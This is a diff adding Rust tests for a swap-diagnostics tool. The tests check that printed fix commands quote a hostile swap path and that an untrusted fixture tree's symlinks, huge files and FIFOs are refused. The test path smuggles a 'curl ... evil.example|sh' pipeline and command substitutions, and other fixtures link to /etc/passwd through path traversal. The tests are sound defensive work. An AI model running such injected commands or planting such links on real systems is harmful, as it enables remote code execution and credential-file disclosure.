@@ -318,3 +318,155 @@ fn unreadable_zram_leaves_its_cost_unknown() {
     // What doesn't depend on zram stays known.
     assert!(j["capacity"]["zswap_resident_max_bytes"].is_u64());
 }
+
+/// A swap path holding shell syntax (tests/fixtures/hostile-paths): the printed fix quotes it as
+/// one word, in text and in JSON.
+#[test]
+fn fix_commands_quote_hostile_swap_paths() {
+    let path = "/var/swap;curl${IFS}evil.example|sh;# $(id)`id`'q\"";
+    let quoted = shlex::try_quote(path).unwrap().into_owned();
+    let text = once_text("hostile-paths");
+    // The text wraps the fix over lines; read it back as one run of words.
+    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
+    let flat_quoted = quoted.split_whitespace().collect::<Vec<_>>().join(" ");
+    assert!(
+        flat.contains(&format!(
+            "sudo swapoff {flat_quoted} && sudo swapon -p 1 {flat_quoted}"
+        )),
+        "{text}"
+    );
+    assert!(!flat.contains("swapoff /var/swap;"), "{text}");
+
+    let json = once_json("hostile-paths");
+    let fix = json["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["id"] == "swap-priorities")
+        .and_then(|f| f["fix"].as_str())
+        .unwrap()
+        .to_string();
+    let cmd = fix.split("Give them one priority: `").nth(1).unwrap();
+    let cmd = &cmd[..cmd.find("`; to keep it").unwrap()];
+    let words = shlex::split(cmd).unwrap();
+    assert_eq!(
+        words.iter().filter(|w| w.as_str() == path).count(),
+        2,
+        "{words:?}"
+    );
+    assert!(
+        words.iter().all(|w| w == path || !w.contains("evil")),
+        "{words:?}"
+    );
+}
+
+/// An untrusted tree (a copy of linux-6.18-idle) with `edit` applied: `--once` and `--once --json`
+/// both end normally within 5 s. Returns the text output.
+fn once_hostile_tree(edit: impl FnOnce(&std::path::Path)) -> String {
+    let t = tempfile::tempdir().unwrap();
+    common::copy_dir(&common::fixture_dir("linux-6.18-idle"), t.path());
+    edit(t.path());
+    let mut text = String::new();
+    for json in [false, true] {
+        let mut cmd = zswaptop();
+        cmd.args(["--once", "--root"]).arg(t.path());
+        if json {
+            cmd.arg("--json");
+        }
+        let mut child = cmd.stdout(Stdio::piped()).spawn().unwrap();
+        let mut out = child.stdout.take().unwrap();
+        let reader = std::thread::spawn(move || {
+            let mut s = String::new();
+            std::io::Read::read_to_string(&mut out, &mut s).unwrap();
+            s
+        });
+        let start = std::time::Instant::now();
+        let status = loop {
+            if let Some(s) = child.try_wait().unwrap() {
+                break s;
+            }
+            if start.elapsed() > std::time::Duration::from_secs(5) {
+                child.kill().unwrap();
+                panic!("still running after 5 s (json {json})");
+            }
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        };
+        assert!(status.success(), "json {json}: {status}");
+        let s = reader.join().unwrap();
+        if json {
+            serde_json::from_str::<serde_json::Value>(&s).unwrap();
+        } else {
+            text = s;
+        }
+    }
+    text
+}
+
+#[test]
+fn untrusted_tree_endless_file_is_refused() {
+    let text = once_hostile_tree(|r| {
+        std::fs::remove_file(r.join("proc/vmstat")).unwrap();
+        std::os::unix::fs::symlink("/dev/zero", r.join("proc/vmstat")).unwrap();
+    });
+    assert!(
+        text.contains("/proc/vmstat: malformed: a link leads out of the tree: refused"),
+        "{text}"
+    );
+}
+
+#[test]
+fn untrusted_tree_huge_file_is_refused() {
+    let text = once_hostile_tree(|r| {
+        let f = std::fs::File::create(r.join("proc/meminfo")).unwrap();
+        f.set_len(96 << 20).unwrap();
+    });
+    assert!(
+        text.contains("/proc/meminfo: malformed: larger than 16777216 bytes: not a kernel file"),
+        "{text}"
+    );
+}
+
+#[test]
+fn untrusted_tree_fifo_is_refused_at_once() {
+    let text = once_hostile_tree(|r| {
+        let p = r.join("proc/swaps");
+        std::fs::remove_file(&p).unwrap();
+        assert!(Command::new("mkfifo").arg(&p).status().unwrap().success());
+    });
+    assert!(
+        text.contains("/proc/swaps: malformed: a FIFO, not a kernel file: refused"),
+        "{text}"
+    );
+}
+
+#[test]
+fn untrusted_tree_links_out_of_it_are_refused() {
+    let link = |r: &std::path::Path, rel: &str, target: &str| {
+        let p = r.join(rel);
+        if p.is_dir() {
+            std::fs::remove_dir_all(&p).unwrap();
+        } else {
+            std::fs::remove_file(&p).unwrap();
+        }
+        std::os::unix::fs::symlink(target, p).unwrap();
+    };
+    assert!(once_text("linux-6.18-idle").contains("zram0"));
+    let text = once_hostile_tree(|r| {
+        link(r, "proc/vmstat", "/etc/passwd");
+        link(r, "proc/meminfo", "../../../../../../../../etc/passwd");
+        // A directory link to the live sysfs: its devices are not the tree's.
+        link(r, "sys/block", "/sys/block");
+    });
+    for file in ["vmstat", "meminfo"] {
+        assert!(
+            text.contains(&format!(
+                "/proc/{file}: malformed: a link leads out of the tree: refused"
+            )),
+            "{text}"
+        );
+    }
+    let passwd = std::fs::read_to_string("/etc/passwd").unwrap();
+    let first = passwd.lines().next().unwrap();
+    assert!(!text.contains(first) && !text.contains("root:"), "{text}");
+    assert!(!text.contains("zram0"), "{text}");
+}
